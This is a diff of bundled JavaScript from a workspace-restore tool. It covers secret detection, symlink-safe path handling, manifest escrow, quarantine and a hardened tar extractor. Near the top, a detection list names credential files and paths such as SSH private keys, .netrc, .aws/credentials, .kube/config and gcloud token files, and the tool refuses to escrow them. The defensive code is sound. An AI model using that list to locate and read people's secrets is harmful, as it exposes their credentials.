+const SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
+/** Bytes read from the head of a file to judge its content. */
+const SNIFF_BYTES = 64 * 1024;
+/** File names that are credentials wherever they are. */
+const SECRET_NAMES = new Set([
+    '.netrc',
+    '_netrc',
+    '.git-credentials',
+    '.pgpass',
+    '.npmrc',
+    '.pypirc',
+    '.env',
+    '.envrc',
+    '.vault-token',
+    '.credentials.json',
+    'oauth_creds.json',
+    'credentials.toml',
+    'id_rsa',
+    'id_dsa',
+    'id_ecdsa',
+    'id_ed25519',
+    'id_ecdsa_sk',
+    'id_ed25519_sk'
+]);
+/** Extensions of key and certificate-bundle files. */
+const SECRET_EXTENSIONS = /\.(pem|key|p12|pfx|jks|keystore|ppk)$/i;
+/** Paths (relative, ending a manifest path) that are credentials in one tool's directory. */
+const SECRET_SUFFIXES = [
+    '.codex/auth.json',
+    'gh/hosts.yml',
+    '.aws/credentials',
+    '.docker/config.json',
+    '.kube/config',
+    '.cargo/credentials',
+    'gcloud/credentials.db',
+    'gcloud/application_default_credentials.json'
+];
+/** Directories whose every file is secret. */
+const SECRET_DIRS = new Set(['.gnupg']);
+/** What may sit in ~/.ssh without being a private key. */
+const SSH_PUBLIC = new Set(['config', 'known_hosts', 'known_hosts.old', 'authorized_keys']);
+/** Templates list which variables exist, without values. */
+const ENV_TEMPLATE = /^\.env\.(example|sample|template|dist)$/;
+/** PEM ("RSA", "EC", "ENCRYPTED", none), OpenSSH and PGP private-key armour. */
+const PRIVATE_KEY_HEADER = /-----BEGIN (?:[A-Z0-9]+ ){0,4}PRIVATE KEY(?: BLOCK)?-----/;
+/** True when `rel` (a manifest path) names a file that must never be escrowed. */
+function isSecretPath(rel) {
+    const segs = rel.split('/');
+    const name = segs[segs.length - 1] ?? '';
+    const parent = segs[segs.length - 2];
+    if (segs.slice(0, -1).some(s => SECRET_DIRS.has(s)))
+        return true;
+    if (SECRET_SUFFIXES.some(s => rel === s || rel.endsWith(`/${s}`)))
+        return true;
+    if (SECRET_NAMES.has(name) || SECRET_EXTENSIONS.test(name))
+        return true;
+    if (name.startsWith('.env.') && !ENV_TEMPLATE.test(name))
+        return true;
+    // Any key ssh-keygen or a person put into .ssh (id_work, deploy_github); .pub is public.
+    return parent === '.ssh' && !name.endsWith('.pub') && !SSH_PUBLIC.has(name);
+}
+/** Why these bytes are a secret (a private key or a token), or undefined. */
+function secretContent(bytes) {
+    const text = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('latin1');
+    if (PRIVATE_KEY_HEADER.test(text))
+        return 'holds a private key';
+    if (hasTokenShape(text))
+        return 'holds a token or a password';
+    return undefined;
+}
+/** The first `max` bytes of a regular file, read without following a symlink. */
+function readHead(abs, max = SNIFF_BYTES) {
+    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
+    try {
+        if (!external_node_fs_default().fstatSync(fd).isFile())
+            return Buffer.alloc(0);
+        const buf = Buffer.alloc(max);
+        let got = 0;
+        while (got < max) {
+            const n = external_node_fs_default().readSync(fd, buf, got, max - got, got);
+            if (n === 0)
+                break;
+            got += n;
+        }
+        return buf.subarray(0, got);
+    }
+    finally {
+        external_node_fs_default().closeSync(fd);
+    }
+}
+function realOrResolved(p) {
+    try {
+        return external_node_fs_default().realpathSync(p);
+    }
+    catch {
+        return external_node_path_default().resolve(p);
+    }
+}
+/** Why the file is a secret, in a few words, or undefined when it is not one. */
+function secretReason(q) {
+    if (q.abs && q.stateDir && isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
+        return "is in swr's state directory";
+    if (isSecretPath(q.rel))
+        return 'is a credential by name';
+    let bytes = q.bytes;
+    if (!bytes && q.abs) {
+        try {
+            bytes = readHead(q.abs);
+        }
+        catch {
+            return undefined;
+        }
+    }
+    return bytes ? secretContent(bytes) : undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/no-follow.ts
+/**
+ * Resolving a path below a trusted directory without following a symlink in any component: the
+ * rule for every place swr writes, deletes or copies (selftest's scratch copy, quarantine, canary
+ * planting and cleaning). Each directory component is lstat'ed and must be a real directory; the
+ * last component is returned unresolved, so the caller acts on the name itself (unlink, rmdir,
+ * O_NOFOLLOW|O_EXCL create, lstat-guided copy) and never on what a link there points to.
+ * A refusal names the component, relative to the trusted directory.
+ */
+
+
+
+class SymlinkRefusal extends Error {
+    component;
+    constructor(
+    /** The offending component, relative to the trusted directory. */
+    component, why) {
+        super(`${component} ${why}`);
+        this.component = component;
+        this.name = 'SymlinkRefusal';
+    }
+}
+/**
+ * The absolute path of `rel` (POSIX, no "..") below `root`, every directory component checked to
+ * be a real directory. Missing components end the walk (the path cannot lead anywhere yet)
+ * unless `mkdir` creates them. Throws SymlinkRefusal naming a symlinked or non-directory part.
+ */
+function resolveNoFollow(root, rel, opts = {}) {
+    if (rel === '.' || rel === '')
+        return root;
+    const segs = rel.split('/');
+    if (segs.some(s => s === '..' || s === ''))
+        throw new SymlinkRefusal(rel, 'is not a plain path');
+    let dir = root;
+    for (let i = 0; i < segs.length - 1; i++) {
+        dir = external_node_path_default().join(dir, segs[i]);
+        const shown = segs.slice(0, i + 1).join('/');
+        let st = external_node_fs_default().lstatSync(dir, { throwIfNoEntry: false });
+        if (!st && opts.mkdir) {
+            external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
+            st = external_node_fs_default().lstatSync(dir);
+        }
+        if (!st)
+            return external_node_path_default().join(root, ...segs);
+        if (st.isSymbolicLink())
+            throw new SymlinkRefusal(shown, 'is a symlink; not following it');
+        if (!st.isDirectory())
+            throw new SymlinkRefusal(shown, 'is not a directory');
+    }
+    return external_node_path_default().join(dir, segs[segs.length - 1]);
+}
+/** `abs` (below `root`) as a path relative to it, or undefined when it is not below it. */
+function relativeInside(root, abs) {
+    const a = external_node_path_default().resolve(abs);
+    if (!isInside(root, a))
+        return undefined;
+    return external_node_path_default().relative(root, a).split((external_node_path_default()).sep).join('/') || '.';
+}
+/**
+ * True when the symlink at `linkAbs` (whose parents up to `root` are real directories) can only
+ * lead to a place below `root`: a relative target whose ".." segments all come first and do not
+ * climb above `root`. A ".." after a named segment is judged unsafe, because the name may itself
+ * be a link whose parent is elsewhere; an absolute target is unsafe wherever it points.
+ */
+function linkStaysInside(root, linkAbs, target) {
+    if (target === '' || external_node_path_default().isAbsolute(target) || target.includes('\0'))
+        return false;
+    const segs = target.split('/').filter(s => s !== '' && s !== '.');
+    const firstNamed = segs.findIndex(s => s !== '..');
+    const named = firstNamed < 0 ? [] : segs.slice(firstNamed);
+    if (named.includes('..'))
+        return false;
+    return isInside(root, external_node_path_default().resolve(external_node_path_default().dirname(linkAbs), ...segs));
+}
+
+;// CONCATENATED MODULE: ./src/core/escrow.ts
+/**
+ * Escrow: small files carried inside the (signed) manifest, so they can be restored without a
+ * recipe. Bytes are escrowed only after they match the recorded sha256, and restored only after
+ * the inflated bytes match it again; the inflate is bounded by the recorded size, so a
+ * decompression bomb is refused before anything is written.
+ *
+ * The write never follows a symlink: the parent directories are resolved by no-follow.ts (a
+ * symlinked parent is refused, a missing one created), the data goes to a new file with a random name created exclusively with O_NOFOLLOW in
+ * the target directory, is fsynced, gets the recorded mode, and is renamed over the target (a
+ * symlink planted at the target is replaced, not followed). The result is hashed again.
+ */
+
+
+
+
+
+
+
+
+
+
+
+const ESCROW_MAX_BYTES = 256 * 1024;
+function refuse(e, why) {
+    return new SwrError(`${e.id}: escrow ${why}`, errors_EXIT.UNREPAIRABLE);
+}
+function secretRefusal(e, why) {
+    return refuse(e, `refused: ${e.path} ${why}; secrets are tracked by hash, never escrowed`);
+}
+/**
+ * Escrow the file's current bytes; refuses when they are not the recorded ones, and always for a
+ * secret (the manifest is shared and pushed: secrets are tracked by hash only): by name before
+ * anything is read, by place (`stateDir`) and by content (every byte to be embedded) after.
+ */
+function captureEscrow(workspace, e, maxBytes = ESCROW_MAX_BYTES, stateDir) {
+    const byName = secretReason({ rel: e.path, bytes: new Uint8Array() });
+    if (byName)
+        throw secretRefusal(e, byName);
+    if (e.expect.size > maxBytes)
+        throw refuse(e, `skipped: ${e.expect.size} bytes is over the ${maxBytes}-byte limit`);
+    const abs = resolveEntryPath(workspace, e.path);
+    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
+    let bytes;
+    try {
+        const st = external_node_fs_default().fstatSync(fd);
+        if (!st.isFile())
+            throw refuse(e, 'refused: not a regular file');
+        if (st.size !== e.expect.size)
+            throw refuse(e, `refused: ${st.size} bytes on disk, ${e.expect.size} recorded`);
+        bytes = Buffer.alloc(st.size);
+        let got = 0;
+        while (got < st.size) {
+            const n = external_node_fs_default().readSync(fd, bytes, got, st.size - got, got);
+            if (n === 0)
+                break;
+            got += n;
+        }
+    }
+    finally {
+        external_node_fs_default().closeSync(fd);
+    }
+    const secret = secretReason({ rel: e.path, abs, bytes, ...(stateDir ? { stateDir } : {}) });
+    if (secret)
+        throw secretRefusal(e, secret);
+    const sha = (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
+    if (sha !== e.expect.sha256)
+        throw refuse(e, 'refused: the file on disk does not match its recorded sha256');
+    return {
+        encoding: 'deflate-base64',
+        data: (0,external_node_zlib_.deflateRawSync)(bytes, { level: 9 }).toString('base64')
+    };
+}
+/** The escrowed bytes, checked against the recorded size and sha256 (bounded inflate). */
+function escrowedBytes(e) {
+    if (!e.escrow)
+        throw refuse(e, 'absent');
+    let bytes;
+    try {
+        bytes = (0,external_node_zlib_.inflateRawSync)(Buffer.from(e.escrow.data, 'base64'), {
+            maxOutputLength: Math.max(1, e.expect.size)
+        });
+    }
+    catch {
+        throw refuse(e, `refused: inflates to more than the recorded ${e.expect.size} bytes, or is not deflate data`);
+    }
+    if (bytes.length !== e.expect.size)
+        throw refuse(e, `refused: ${bytes.length} bytes, ${e.expect.size} recorded`);
+    if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== e.expect.sha256)
+        throw refuse(e, 'refused: bytes do not match the recorded sha256');
+    return bytes;
+}
+/** Create or check each parent directory below the workspace without following a symlink. */
+function safeParent(workspace, e) {
+    let target;
+    try {
+        target = resolveNoFollow(workspace, e.path, { mkdir: true });
+    }
+    catch (err) {
+        if (err instanceof SymlinkRefusal)
+            throw refuse(e, `refused: ${err.message}`);
+        throw err;
+    }
+    const dir = external_node_path_default().dirname(target);
+    const st = external_node_fs_default().lstatSync(dir);
+    return { dir, dev: st.dev, ino: st.ino };
+}
+/** Write the escrowed file into place (see the module comment) and prove it verifies. */
+function restoreFromEscrow(workspace, e) {
+    const bytes = escrowedBytes(e);
+    const parent = safeParent(workspace, e);
+    const target = external_node_path_default().join(parent.dir, external_node_path_default().posix.basename(e.path));
+    const tmp = external_node_path_default().join(parent.dir, `.${external_node_path_default().posix.basename(e.path)}.swr-${(0,external_node_crypto_.randomBytes)(8).toString('hex')}.tmp`);
+    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
+    const fd = external_node_fs_default().openSync(tmp, flags, 0o600);
+    try {
+        try {
+            writeAll(fd, bytes);
+            external_node_fs_default().fchmodSync(fd, parseMode(e.expect.mode));
+            external_node_fs_default().fsyncSync(fd);
+        }
+        finally {
+            external_node_fs_default().closeSync(fd);
+        }
+        const again = external_node_fs_default().lstatSync(parent.dir);
+        if (again.dev !== parent.dev || again.ino !== parent.ino || again.isSymbolicLink()) {
+            throw refuse(e, 'refused: the target directory was replaced while writing');
+        }
+        const existing = external_node_fs_default().lstatSync(target, { throwIfNoEntry: false });
+        if (existing?.isDirectory())
+            throw refuse(e, `refused: ${e.path} is a directory; remove it first`);
+        external_node_fs_default().renameSync(tmp, target);
+    }
+    catch (err) {
+        external_node_fs_default().rmSync(tmp, { force: true });
+        throw err;
+    }
+    const check = hashFile(target);
+    if (check.sha256 !== e.expect.sha256)
+        throw refuse(e, 'restored, but the file does not verify');
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/quarantine.ts
+/**
+ * Quarantine: before a recipe runs, copy (never move) the damaged file or tree into the private
+ * state directory, so the evidence survives and in-place repairs (`chmod +x`) still find their
+ * file. Bounded in size; symlinks are copied as links, never followed, and the entry's path is
+ * resolved without following a symlink in any component (a symlinked parent is refused, not
+ * copied through). The folder name comes from a prefix and the id (ids cannot contain "/"), so no
+ * id can place the copy elsewhere.
+ *
+ * The quarantine is pruned after every copy: copies older than the age limit go, then the oldest
+ * others until the whole quarantine fits the size limit (the copy just made always stays).
+ */
+
+
+
+
+
+const QUARANTINE_MAX_BYTES = 256 * 1024 * 1024;
+/** Defaults of the pruning limits (SWR_QUARANTINE_KEEP_DAYS, SWR_QUARANTINE_MAX_MB). */
+const QUARANTINE_KEEP_DAYS = 7;
+const QUARANTINE_TOTAL_BYTES = 1024 * 1024 * 1024;
+function sizeOf(abs, limit) {
+    const st = external_node_fs_default().lstatSync(abs);
+    if (!st.isDirectory())
+        return st.isFile() ? st.size : 0;
+    let total = 0;
+    for (const name of external_node_fs_default().readdirSync(abs)) {
+        total += sizeOf(external_node_path_default().join(abs, name), limit - total);
+        if (total > limit)
+            return total;
+    }
+    return total;
+}
+function quarantine(workspace, stateDir, e, now, limits = {}) {
+    const maxBytes = limits.maxBytes ?? QUARANTINE_MAX_BYTES;
+    let abs;
+    try {
+        abs = resolveNoFollow(workspace, e.path);
+    }
+    catch (err) {
+        if (err instanceof SymlinkRefusal)
+            return { skipped: `not copied: ${err.message}` };
+        throw err;
+    }
+    if (!external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false }))
+        return { skipped: 'nothing on disk to keep' };
+    const bytes = sizeOf(abs, maxBytes);
+    if (bytes > maxBytes)
+        return { skipped: `over the ${maxBytes}-byte quarantine limit` };
+    const stamp = now.toISOString().replace(/[:.]/g, '-');
+    const dir = ensurePrivateDir(stateDir, 'quarantine', `${stamp}-${(0,external_node_crypto_.randomBytes)(4).toString('hex')}`);
+    const dest = external_node_path_default().join(dir, `entry-${e.id}`);
+    external_node_fs_default().cpSync(abs, dest, {
+        recursive: true,
+        verbatimSymlinks: true,
+        errorOnExist: true,
+        force: false,
+        preserveTimestamps: true
+    });
+    const pruned = pruneQuarantine(stateDir, now, limits, dir);
+    return pruned.removed > 0 ? { copied: dest, bytes, pruned } : { copied: dest, bytes };
+}
+/**
+ * Remove quarantined copies older than `keepMs`, then the oldest until the rest fit `totalBytes`;
+ * `keep` (the copy just made) is never removed. Ages come from each copy's folder time.
+ */
+function pruneQuarantine(stateDir, now, limits = {}, keep) {
+    const root = external_node_path_default().join(stateDir, 'quarantine');
+    const keepMs = limits.keepMs ?? QUARANTINE_KEEP_DAYS * 86_400_000;
+    const totalBytes = limits.totalBytes ?? QUARANTINE_TOTAL_BYTES;
+    const copies = (external_node_fs_default().existsSync(root) ? external_node_fs_default().readdirSync(root) : [])
+        .map(name => {
+        const abs = external_node_path_default().join(root, name);
+        const st = external_node_fs_default().lstatSync(abs);
+        return { abs, isDir: st.isDirectory(), mtimeMs: st.mtimeMs };
+    })
+        .filter(c => c.isDir && c.abs !== keep)
+        .map(c => ({ ...c, bytes: sizeOf(c.abs, Number.MAX_SAFE_INTEGER) }))
+        .sort((a, b) => a.mtimeMs - b.mtimeMs);
+    let total = copies.reduce((n, c) => n + c.bytes, keep ? sizeOf(keep, Number.MAX_SAFE_INTEGER) : 0);
+    const out = { removed: 0, bytes: 0 };
+    for (const c of copies) {
+        if (now.getTime() - c.mtimeMs <= keepMs && total <= totalBytes)
+            continue;
+        external_node_fs_default().rmSync(c.abs, { recursive: true, force: true });
+        total -= c.bytes;
+        out.removed++;
+        out.bytes += c.bytes;
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/rejected.ts
+/** Why a cache archive was refused: one line, ready for the report (names are escaped by the caller). */
+class Rejected extends Error {
+    constructor(message) {
+        super(message);
+        this.name = 'Rejected';
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/tar-reader.ts
+/**
+ * A push parser for the tar archives the Actions cache holds (POSIX pax as `tar --posix` writes
+ * them, plain ustar, and GNU long names). It only reads: every member is handed to a sink that
+ * decides where, or whether, its bytes go, so nothing here can write outside what the sink allows.
+ * Any malformed header, unknown member type or early end is a Rejected with a one-line reason.
+ */
+
+const BLOCK = 512;
+/** pax and GNU long-name records larger than this are refused (real ones are a few hundred bytes). */
+const MAX_META = 1024 * 1024;
+const FLAG_NAMES = {
+    '3': 'character device',
+    '4': 'block device',
+    '6': 'FIFO'
+};
+function flagName(flag) {
+    return FLAG_NAMES[flag] ?? `type ${JSON.stringify(flag)}`;
+}
+function cstr(b, start, len) {
+    const end = b.indexOf(0, start);
+    return b.toString('utf8', start, end === -1 || end > start + len ? start + len : end);
+}
+function tar_reader_octal(b, start, len, what) {
+    // GNU base-256: the high bit of the first byte set (sizes of 8 GiB and more).
+    if ((b[start] ?? 0) & 0x80) {
+        let n = (b[start] ?? 0) & 0x7f;
+        for (let i = start + 1; i < start + len; i++)
+            n = n * 256 + (b[i] ?? 0);
+        if (!Number.isSafeInteger(n))
+            throw new Rejected(`malformed archive: ${what} out of range`);
+        return n;
+    }
+    const text = cstr(b, start, len).trim();
+    if (text === '')
+        return 0;
+    if (!/^[0-7]+$/.test(text))
+        throw new Rejected(`malformed archive: ${what} is not octal`);
+    return parseInt(text, 8);
+}
+function checksumOk(h) {
+    let sum = 0;
+    for (let i = 0; i < BLOCK; i++)
+        sum += i >= 148 && i < 156 ? 32 : (h[i] ?? 0);
+    return tar_reader_octal(h, 148, 8, 'checksum') === sum;
+}
+function parsePax(body) {
+    const out = new Map();
+    let at = 0;
+    while (at < body.length) {
+        const space = body.indexOf(0x20, at);
+        const len = space === -1 ? NaN : Number(body.toString('ascii', at, space));
+        if (!Number.isSafeInteger(len) || len <= 0 || at + len > body.length)
+            throw new Rejected('malformed archive: bad pax record');
+        const rec = body.toString('utf8', space + 1, at + len - 1);
+        const eq = rec.indexOf('=');
+        if (eq <= 0)
+            throw new Rejected('malformed archive: bad pax record');
+        out.set(rec.slice(0, eq), rec.slice(eq + 1));
+        at += len;
+    }
+    return out;
+}
+class TarReader {
+    handlers;
+    state = { kind: 'header' };
+    partial;
+    pax = new Map();
+    longName;
+    longLink;
+    zeroBlocks = 0;
+    constructor(handlers) {
+        this.handlers = handlers;
+    }
+    /** True once the end-of-archive blocks were read: the rest of the stream is not needed. */
+    get done() {
+        return this.state.kind === 'end';
+    }
+    /** The stream ended: anything but a complete archive is a truncated one. */
+    finish() {
+        if (this.state.kind !== 'end' && !(this.state.kind === 'header' && this.zeroBlocks >= 1))
+            throw new Rejected('truncated archive');
+    }
+    write(chunk) {
+        let buf = chunk;
+        if (this.partial) {
+            buf = Buffer.concat([this.partial, chunk]);
+            this.partial = undefined;
+        }
+        let at = 0;
+        while (at < buf.length && this.state.kind !== 'end') {
+            const s = this.state;
+            if (s.kind === 'header') {
+                if (buf.length - at < BLOCK) {
+                    this.partial = Buffer.from(buf.subarray(at));
+                    return;
+                }
+                this.header(buf.subarray(at, at + BLOCK));
+                at += BLOCK;
+            }
+            else if (s.kind === 'body') {
+                const n = Math.min(s.left, buf.length - at);
+                if (n > 0)
+                    s.sink?.write(buf.subarray(at, at + n));
+                s.left -= n;
+                at += n;
+                if (s.left === 0) {
+                    s.sink?.end();
+                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
+                }
+            }
+            else if (s.kind === 'meta') {
+                const n = Math.min(s.left, buf.length - at);
+                s.parts.push(Buffer.from(buf.subarray(at, at + n)));
+                s.left -= n;
+                at += n;
+                if (s.left === 0) {
+                    this.meta(s.flag, Buffer.concat(s.parts));
+                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
+                }
+            }
+            else if (s.kind === 'pad') {
+                const n = Math.min(s.left, buf.length - at);
+                s.left -= n;
+                at += n;
+                if (s.left === 0)
+                    this.state = { kind: 'header' };
+            }
+        }
+    }
+    header(h) {
+        if (h.every(b => b === 0)) {
+            if (++this.zeroBlocks >= 2)
+                this.state = { kind: 'end' };
+            return;
+        }
+        if (this.zeroBlocks > 0)
+            throw new Rejected('malformed archive: data after an end block');
+        if (!checksumOk(h))
+            throw new Rejected('malformed archive: header checksum mismatch');
+        const flag = String.fromCharCode(h[156] || 0x30);
+        let size = tar_reader_octal(h, 124, 12, 'size');
+        const pad = (BLOCK - (size % BLOCK)) % BLOCK;
+        if (flag === 'x' || flag === 'g' || flag === 'L' || flag === 'K') {
+            if (size > MAX_META)
+                throw new Rejected('malformed archive: oversized extended header');
+            this.state = { kind: 'meta', left: size, pad, flag, parts: [] };
+            if (size === 0) {
+                this.meta(flag, Buffer.alloc(0));
+                this.state = { kind: 'header' };
+            }
+            return;
+        }
+        // POSIX ustar ("ustar\0") splits long names into prefix/name; GNU ("ustar ") uses that field otherwise.
+        const posix = h.toString('ascii', 257, 262) === 'ustar' && h[262] === 0;
+        const prefix = posix ? cstr(h, 345, 155) : '';
+        let name = this.pax.get('path') ?? this.longName ?? (prefix ? `${prefix}/` : '') + cstr(h, 0, 100);
+        const linkname = this.pax.get('linkpath') ?? this.longLink ?? cstr(h, 157, 100);
+        const paxSize = this.pax.get('size');
+        if (paxSize !== undefined) {
+            if (!/^\d+$/.test(paxSize))
+                throw new Rejected('malformed archive: bad pax size');
+            size = Number(paxSize);
+        }
+        this.pax = new Map();
+        this.longName = this.longLink = undefined;
+        const type = flag === '0' || flag === '7'
+            ? 'file'
+            : flag === '5'
+                ? 'dir'
+                : flag === '2'
+                    ? 'symlink'
+                    : flag === '1'
+                        ? 'hardlink'
+                        : 'other';
+        if (type === 'dir')
+            name = name.replace(/\/+$/, '');
+        const member = {
+            name,
+            type,
+            flag,
+            mode: tar_reader_octal(h, 100, 8, 'mode') & 0o7777,
+            size: type === 'file' ? size : 0,
+            linkname
+        };
+        const sink = this.handlers.member(member);
+        // Only regular files carry a body we read; any other member's declared size is skipped.
+        const bodyPad = (BLOCK - (size % BLOCK)) % BLOCK;
+        if (size === 0) {
+            sink?.end();
+            return;
+        }
+        if (type !== 'file') {
+            this.state = { kind: 'pad', left: size + bodyPad };
+            return;
+        }
+        this.state = { kind: 'body', left: size, pad: bodyPad, sink };
+    }
+    meta(flag, body) {
+        if (flag === 'x')
+            for (const [k, v] of parsePax(body))
+                this.pax.set(k, v);
+        else if (flag === 'L')
+            this.longName = cstr(body, 0, body.length);
+        else if (flag === 'K')
+            this.longLink = cstr(body, 0, body.length);
+        // 'g' (global pax) carries nothing swr uses.
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/extract.ts
+/**
+ * Unpacking one entry's cache archive into a private scratch directory, member by member, under the
+ * entry's signed expectations: every name must lie inside the entry's own path (as the cache client
+ * archived it, relative to GITHUB_WORKSPACE), nothing is written through a link, nothing but files,
+ * directories and in-entry links is created, and counts and sizes are bounded before a byte is
+ * read. With a per-file expectation (a file's sha256, a tree's signed index) each file is hashed
+ * as it streams out, so a poisoned archive stops at its first wrong member and a good one is proven
+ * without being read again.
+ */
+
+
+
+
+
+
+
+const LIST = 5;
+/** The process umask (reading it sets it, so it is set straight back); all bits when unknown. */
+function currentUmask() {
+    try {
+        const u = process.umask(0o022);
+        process.umask(u);
+        return u;
+    }
+    catch {
+        return 0o777;
+    }
+}
+/** Escape a name from the archive for a one-line report. */
+function shown(name) {
+    const clipped = name.length > 200 ? `${name.slice(0, 200)}…` : name;
+    const plain = [...clipped].every(c => c >= ' ' && c !== '\x7f' && c !== '"' && c !== '\\' && c !== '%');
+    return plain ? clipped : JSON.stringify(clipped);
+}
+class EntryExtractor {
+    prefix;
+    dest;
+    want;
+    records;
+    ignored;
+    seen = new Set();
+    links = new Set();
+    fileHashes = new Map();
+    dirModes = [];
+    members = 0;
+    openFd;
+    bytes = 0;
+    skippedBytes = 0;
+    files = 0;
+    maxMembers;
+    maxSkipped;
+    /**
+     * `prefix`: the entry's path as the archive names it; `dest`: where the entry's root goes in
+     * scratch (its parent exists; `dest` itself must not).
+     */
+    constructor(prefix, dest, want) {
+        this.prefix = prefix;
+        this.dest = dest;
+        this.want = want;
+        if (want.kind === 'indexed') {
+            this.records = new Map(want.records.map(r => [r.rel, r]));
+            this.ignored = ignoreMatcher(want.ignore);
+            const total = want.records.reduce((n, r) => n + r.size, 0);
+            // Ignored members are skipped unwritten; they may not outgrow the tree itself.
+            this.maxSkipped = Math.max(64 * 1024 * 1024, Math.ceil(total / 10));
+            this.maxMembers =
+                want.records.length + 1 + Math.max(1024, Math.ceil(want.records.length / 10));
+        }
+        else {
+            this.maxSkipped = 0;
+            this.maxMembers = want.kind === 'file' ? 1 : want.maxMembers;
+        }
+    }
+    member(m) {
+        if (++this.members > this.maxMembers)
+            throw new Rejected(`more than ${this.maxMembers} members (the recorded bound)`);
+        const rel = this.relOf(m.name);
+        if (m.type === 'other')
+            throw new Rejected(`${flagName(m.flag)} member: ${shown(m.name)}`);
+        if (m.type === 'hardlink')
+            this.linkTarget(m);
+        if (this.records && this.isIgnored(rel)) {
+            this.skippedBytes += m.size;
+            if (this.skippedBytes > this.maxSkipped)
+                throw new Rejected(`ignored members over ${this.maxSkipped} bytes`);
+            return undefined;
+        }
+        if (this.seen.has(rel))
+            throw new Rejected(`duplicate member: ${shown(m.name)}`);
+        this.throughLink(rel, m.name);
+        this.seen.add(rel);
+        const at = { rel, abs: rel === '' ? this.dest : external_node_path_default().join(this.dest, rel) };
+        this.checkShape(at, m);
+        switch (m.type) {
+            case 'dir':
+                return this.dir(at, m);
+            case 'symlink':
+                return this.symlink(at, m);
+            case 'hardlink':
+                return this.hardlink(at, m);
+            default:
+                return this.file(at, m);
+        }
+    }
+    /** Close a file left open by an archive that stopped mid-member. */
+    abort() {
+        if (this.openFd !== undefined)
+            external_node_fs_default().closeSync(this.openFd);
+        this.openFd = undefined;
+    }
+    /** After the archive ended: everything recorded arrived; directory modes applied last. */
+    finish() {
+        if (this.records) {
+            const missing = [...this.records.keys()].filter(r => !this.seen.has(r));
+            if (missing.length > 0)
+                throw new Rejected(`${missing.length} missing: ${missing.slice(0, LIST).map(shown).join(', ')}${missing.length > LIST ? ', …' : ''}`);
+        }
+        else if (!this.seen.has('')) {
+            throw new Rejected('the archive does not hold the entry');
+        }
+        for (const [abs, mode] of this.dirModes.reverse())
+            external_node_fs_default().chmodSync(abs, mode);
+        return {
+            members: this.members,
+            bytes: this.bytes,
+            proven: this.want.kind !== 'bounded',
+            files: this.files
+        };
+    }
+    relOf(name) {
+        if (name.startsWith('/'))
+            throw new Rejected(`absolute member name: ${shown(name)}`);
+        let rel;
+        if (name === this.prefix || name === `${this.prefix}/`)
+            rel = '';
+        else if (name.startsWith(`${this.prefix}/`))
+            rel = name.slice(this.prefix.length + 1);
+        else if (name.split('/').includes('..') && !this.prefix.split('/').includes('..'))
+            throw new Rejected(`member climbs out with "..": ${shown(name)}`);
+        else
+            throw new Rejected(`member outside the entry's path: ${shown(name)}`);
+        rel = rel.replace(/\/+$/, '');
+        if (rel !== '' && rel.split('/').some(c => c === '' || c === '.' || c === '..'))
+            throw new Rejected(`member name with "", "." or "..": ${shown(name)}`);
+        return rel;
+    }
+    isIgnored(rel) {
+        if (rel === '' || !this.ignored)
+            return false;
+        const parts = rel.split('/');
+        for (let i = 1; i <= parts.length; i++)
+            if (this.ignored(parts.slice(0, i).join('/'), parts[i - 1] ?? ''))
+                return true;
+        return false;
+    }
+    /** A member below a link created from this archive would be written through that link. */
+    throughLink(rel, name) {
+        if (this.links.size === 0)
+            return;
+        let at = rel;
+        for (let cut = at.lastIndexOf('/'); cut > 0; cut = at.lastIndexOf('/')) {
+            at = at.slice(0, cut);
+            if (this.links.has(at))
+                throw new Rejected(`member written through a link: ${shown(name)}`);
+        }
+        if (rel !== '' && this.links.has(''))
+            throw new Rejected(`member written through a link: ${shown(name)}`);
+    }
+    checkShape(at, m) {
+        const w = this.want;
+        if (w.kind === 'file') {
+            if (at.rel !== '' || m.type !== 'file')
+                throw new Rejected(`unexpected ${m.type} member: ${shown(m.name)} (the entry is one file)`);
+            if (m.size !== w.size)
+                throw new Rejected(`size ${m.size}, recorded ${w.size}`);
+            if (m.mode !== w.mode)
+                throw new Rejected(`mode ${octal(m.mode)}, recorded ${octal(w.mode)}`);
+            return;
+        }
+        if (w.kind === 'bounded') {
+            if (w.single && at.rel !== '')
+                throw new Rejected(`unexpected member: ${shown(m.name)} (the entry is not a directory)`);
+            if (this.bytes + m.size > w.maxBytes)
+                throw new Rejected(`over ${w.maxBytes} bytes (the recorded bound)`);
+            return;
+        }
+        if (at.rel === '') {
+            if (m.type !== 'dir')
+                throw new Rejected(`the tree's root is a ${m.type} in the archive`);
+            return;
+        }
+        const r = this.records?.get(at.rel);
+        if (!r)
+            throw new Rejected(`extra ${m.type === 'dir' ? 'directory' : m.type}: ${shown(at.rel)}`);
+        const type = m.type === 'dir' ? 'd' : m.type === 'symlink' ? 'l' : 'f';
+        if (type !== r.type)
+            throw new Rejected(`${shown(at.rel)}: ${m.type} in the archive, recorded as type ${r.type}`);
+        if (type === 'f' && m.type === 'file' && m.size !== r.size)
+            throw new Rejected(`${shown(at.rel)}: size ${m.size}, recorded ${r.size}`);
+        if (type !== 'l' && m.mode !== r.mode)
+            throw new Rejected(`${shown(at.rel)}: mode ${octal(m.mode)}, recorded ${octal(r.mode)}`);
